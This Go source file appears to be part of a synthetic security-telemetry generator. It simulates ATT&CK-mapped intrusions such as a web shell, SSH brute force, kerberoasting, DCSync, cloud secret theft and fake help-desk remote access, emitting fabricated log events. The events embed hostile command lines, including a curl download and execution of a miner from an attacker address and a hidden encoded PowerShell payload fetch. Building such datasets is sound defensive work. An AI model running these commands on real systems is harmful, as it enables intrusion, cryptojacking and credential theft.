package attack

import (
	"fmt"
	"strings"

	"socrates/generator/life"
	"socrates/generator/org"
	"socrates/generator/tick"
	"socrates/generator/trace"
)

func init() {
	server := Param{"at", DeviceKind, "the server", false}
	from := Param{"from", AddressKind, "attacker's address", false}
	onServer := func(o *org.Org, a Args) []Need {
		needs := []Need{{"device", a.Device("at").ID}}
		if f := a.Address("from"); f != nil {
			needs = append(needs, Need{"address", f.IP})
		}
		return needs
	}
	register(Activity{Name: "web-shell", Doc: "A page is uploaded to the web server and used to run commands.", Technique: "T1505.003", Tactic: "Persistence", Params: []Param{server, from, {"page", TextKind, "file name of the page", true}}, Needs: onServer, Run: webShell})
	register(Activity{Name: "ssh-brute-force", Doc: "Passwords are tried over SSH until one opens.", Technique: "T1110.001", Tactic: "CredentialAccess", Params: []Param{server, from, {"count", NumberKind, "tries", true}}, Needs: onServer, Run: sshBrute})
	register(Activity{Name: "crypto-mining", Doc: "A miner is fetched, kept by cron and run.", Technique: "T1496", Tactic: "Impact", Params: []Param{server, from, {"implant", FileKind, "the miner", false}}, Needs: onServer, Run: mining})
	register(Activity{Name: "kerberoast", Doc: "Service tickets with RC4 are asked for many accounts.", Technique: "T1558.003", Tactic: "CredentialAccess", Params: []Param{{"on", PersonKind, "from whose device", false}},
		Needs: func(o *org.Org, a Args) []Need { return onDevice(a.Person("on")) }, Run: kerberoast})
	register(Activity{Name: "dcsync", Doc: "A device that is no domain controller asks for replication.", Technique: "T1003.006", Tactic: "CredentialAccess", Params: []Param{{"on", PersonKind, "from whose device", false}, {"as", PersonKind, "account", false}},
		Needs: func(o *org.Org, a Args) []Need {
			return append(onDevice(a.Person("on")), Need{"account", a.Person("as").ObjectID})
		}, Run: dcsync})
	register(Activity{Name: "vault-theft", Doc: "A stolen application secret signs in from outside and reads every secret of a key vault.", Technique: "T1555.006", Tactic: "CredentialAccess", Params: []Param{from, {"count", NumberKind, "secrets", true}},
		Needs: func(o *org.Org, a Args) []Need {
			return []Need{{"app", o.App("devops-pipeline").ID}, {"address", a.Address("from").IP}}
		}, Run: vaultTheft})
	register(Activity{Name: "storage-exfiltration", Doc: "Blobs are downloaded with a leaked signature.", Technique: "T1530", Tactic: "Exfiltration", Params: []Param{from, {"count", NumberKind, "blobs", true}},
		Needs: func(o *org.Org, a Args) []Need { return []Need{{"address", a.Address("from").IP}} }, Run: storageTheft})
	register(Activity{Name: "aws-pivot", Doc: "A leaked access key looks around AWS and reads a secret.", Technique: "T1078.004", Tactic: "InitialAccess", Params: []Param{from},
		Needs: func(o *org.Org, a Args) []Need { return []Need{{"address", a.Address("from").IP}} }, Run: awsPivot})
	register(Activity{Name: "remote-help", Doc: "A false help desk talks the victim into Quick Assist.", Technique: "T1219", Tactic: "CommandAndControl", Params: []Param{{"on", PersonKind, "whose device", false}, from},
		Needs: func(o *org.Org, a Args) []Need { return onDevice(a.Person("on")) }, Run: remoteHelp})
	register(Activity{Name: "role-elevation", Doc: "An account is made Global Administrator.", Technique: "T1098.003", Tactic: "PrivilegeEscalation", Params: []Param{{"as", PersonKind, "who does it", false}, {"to", PersonKind, "who is elevated", false}, from},
		Needs: func(o *org.Org, a Args) []Need {
			return []Need{{"account", a.Person("as").ObjectID}, {"address", a.Address("from").IP}}
		}, Run: elevate})
}

func webShell(e trace.Env, at int64, a Args) {
	d, from, page := a.Device("at"), a.Address("from"), a.Text("page", "errorfe.aspx")
	services := trace.New(d, e.O.Image(d, "services.exe"), trace.System, nil, at-9*tick.Day, 748, "services.exe")
	worker := trace.New(d, e.O.Image(d, "w3wp.exe"), trace.As(e.O, e.O.ServiceAccount("svc-web")), services, at-30*tick.Hour, 4312, `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool"`)
	e.Web(at, d, from.IP, "POST", "/upload/attachment.aspx", "-", "python-requests/2.32.3", 200, 512)
	e.File(worker, at+tick.Second, trace.FileEvent{Action: "FileCreated", Path: `C:\inetpub\wwwroot\aspnet_client\` + page, Image: org.NewImage(page, "", "", "", "", "", e.R.Hex(8), 1438)})
	for _, c := range [][2]string{{"whoami.exe", "whoami"}, {"ipconfig.exe", "ipconfig /all"}, {"net.exe", "net user /domain"}, {"nltest.exe", "nltest /dclist:" + e.O.ADDomain}} {
		at += e.R.Around(50*tick.Second, 30*tick.Second)
		e.Web(at, d, from.IP, "POST", "/aspnet_client/"+page, "-", "python-requests/2.32.3", 200, e.R.Between(200, 4000))
		shell := e.Start(d, e.O.Image(d, "cmd.exe"), worker.User, worker, at+20*tick.Millisecond, `"cmd.exe" /c `+c[1])
		e.Start(d, e.O.Image(d, c[0]), worker.User, shell, at+50*tick.Millisecond, c[1])
	}
}

func sshBrute(e trace.Env, at int64, a Args) {
	d, from := a.Device("at"), a.Address("from")
	pid := e.R.Between(20_000, 60_000)
	for range a.Number("count", 180) {
		e.Syslog(at, d, "auth", "info", "sshd", pid, fmt.Sprintf("Failed password for deploy from %s port %d ssh2", from.IP, e.R.Between(1025, 65000)))
		at += e.R.Between(400, 2600) * tick.Millisecond
		pid += 2
	}
	e.Syslog(at, d, "auth", "info", "sshd", pid, fmt.Sprintf("Accepted password for deploy from %s port %d ssh2", from.IP, e.R.Between(1025, 65000)))
}

func mining(e trace.Env, at int64, a Args) {
	d, from, im := a.Device("at"), a.Address("from"), a.File("implant")
	systemd := trace.New(d, e.O.Image(d, "systemd"), trace.Root, nil, at-20*tick.Day, 1, "/sbin/init")
	sshd := trace.New(d, e.O.Image(d, "sshd"), trace.Root, systemd, at-20*tick.Second, 48_112, "sshd: deploy [priv]")
	user := &trace.User{Domain: d.Name, Name: "deploy"}
	bash := e.Start(d, e.O.Image(d, "bash"), user, sshd, at, "-bash")
	get := e.Start(d, e.O.Image(d, "curl"), user, bash, at+9*tick.Second, fmt.Sprintf("curl -fsSL http://%s/%s -o /tmp/%s", from.IP, im.File, im.File))
	e.Connect(get, at+10*tick.Second, trace.Flow{LocalIP: d.IP, RemoteIP: from.IP, Port: 80, URL: from.IP, Site: d.Site, Sent: 214, Received: im.Size})
	e.File(get, at+11*tick.Second, trace.FileEvent{Action: "FileCreated", Path: "/tmp/" + im.File, Image: im})
	e.Start(d, e.O.Image(d, "chmod"), user, bash, at+13*tick.Second, "chmod +x /tmp/"+im.File)
	e.Start(d, e.O.Image(d, "crontab"), user, bash, at+20*tick.Second, "crontab -")
	miner := e.Start(d, im, user, bash, at+25*tick.Second, "/tmp/"+im.File+" -o pool:3333 --donate-level 0")
	for i := range int64(12) {
		e.Connect(miner, at+30*tick.Second+i*10*tick.Minute, trace.Flow{LocalIP: d.IP, RemoteIP: from.IP, Port: 3333, Site: d.Site, App: "stratum", Sent: 4100, Received: 2600})
	}
	e.Syslog(at+21*tick.Second, d, "cron", "info", "crontab", 48_300, "(deploy) REPLACE (deploy)")
}

func kerberoast(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	e.Query(at, "LDAP query", "QueryUser", "(&(samAccountType=805306368)(servicePrincipalName=*))", d.P.Account, d.P.Device)
	for _, s := range e.O.Services {
		if len(s.SPNs) > 0 {
			at += e.R.Between(20, 200) * tick.Millisecond
			e.Ticket(at, d.P.Account, s, d.IP, "0x17")
		}
	}
}

func dcsync(e trace.Env, at int64, a Args) {
	by := a.Person("as").Account
	if adm := a.Person("as").Admin; adm != nil {
		by = adm
	}
	e.Directory(at, "Directory Service replication", by, a.Person("on").Device, "krbtgt", `{"AttackTechniques":"Replication request from a device that is no domain controller"}`)
}

func vaultTheft(e trace.Env, at int64, a Args) {
	app, from := e.O.App("devops-pipeline"), a.Address("from")
	e.ServiceSignIn(at, app, e.O.App("Azure Key Vault"), from.IP, from.Place, 0, "")
	vault := "kv-" + strings.ToLower(e.O.Prefix) + "-prod"
	e.Vault(at+5*tick.Second, app, from.IP, vault, "SecretList", "")
	for i := range a.Number("count", 18) {
		e.Vault(at+(6+i*2)*tick.Second, app, from.IP, vault, "SecretGet", fmt.Sprintf("secret-%02d", i))
	}
}

func storageTheft(e trace.Env, at int64, a Args) {
	for i := range a.Number("count", 90) {
		e.Blob(at, "st"+strings.ToLower(e.O.Prefix)+"data01", "customers", fmt.Sprintf("export-%03d.csv", i), "GetBlob", a.Address("from").IP, "rclone/v1.69.1", e.R.Between(2_000_000, 90_000_000))
		at += e.R.Between(400, 5000) * tick.Millisecond
	}
}

func awsPivot(e trace.Env, at int64, a Args) {
	for _, c := range [][3]string{{"sts", "GetCallerIdentity", ""}, {"iam", "ListUsers", "AccessDenied"}, {"s3", "ListBuckets", ""}, {"secretsmanager", "ListSecrets", ""}, {"secretsmanager", "GetSecretValue", ""}} {
		e.Trail(at, "deploy-bot", c[0], c[1], a.Address("from").IP, "Boto3/1.38.23 md/Botocore#1.38.23 ua/2.1 os/linux", map[bool]string{true: `{"secretId":"entra-sync-credential"}`}[c[1] == "GetSecretValue"], c[2])
		at += e.R.Around(30*tick.Second, 20*tick.Second)
	}
}

func remoteHelp(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	e.Cloud(at-3*tick.Minute, trace.CloudAct{Account: d.P.Account, Workload: "MicrosoftTeams", Operation: "ChatCreated", Object: "Help Desk", Type: "Chat", IP: d.Public, Place: d.Place, Agent: "Teams",
		Raw: fmt.Sprintf(`{"Operation":"ChatCreated","Workload":"MicrosoftTeams","UserId":%q,"CommunicationType":"OneOnOne","ParticipantInfo":{"HasForeignTenantUsers":true}}`, d.P.UPN)})
	qa := e.Start(d.P.Device, e.O.Image(d.P.Device, "quickassist.exe"), d.Explorer.User, d.Explorer, at, "")
	e.Connect(qa, at+8*tick.Second, trace.Flow{LocalIP: d.IP, RemoteIP: "52.112.100.21", Port: 443, URL: "remoteassistance.support.services.microsoft.com", Site: d.Firewall(), Sent: 41_000, Received: 390_000})
	shell := e.Start(d.P.Device, e.O.Image(d.P.Device, "cmd.exe"), d.Explorer.User, d.Explorer, at+4*tick.Minute, "cmd.exe")
	e.Start(d.P.Device, e.O.Image(d.P.Device, "powershell.exe"), shell.User, shell, at+5*tick.Minute, "powershell -nop -w hidden -enc "+life.Encode("iwr https://"+a.Address("from").IP+"/sp -OutFile $env:TEMP\\sp.zip"))
}

func elevate(e trace.Env, at int64, a Args) {
	p, to := a.Person("as"), a.Person("to")
	e.Audit(at, trace.Audit{Operation: "Add member to role", Category: "RoleManagement", By: p.Account, IP: a.Address("from").IP, Target: to.UPN, TargetID: to.ObjectID,
		Modified: `[{"displayName":"Role.DisplayName","oldValue":null,"newValue":"\"Global Administrator\""}]`})
}
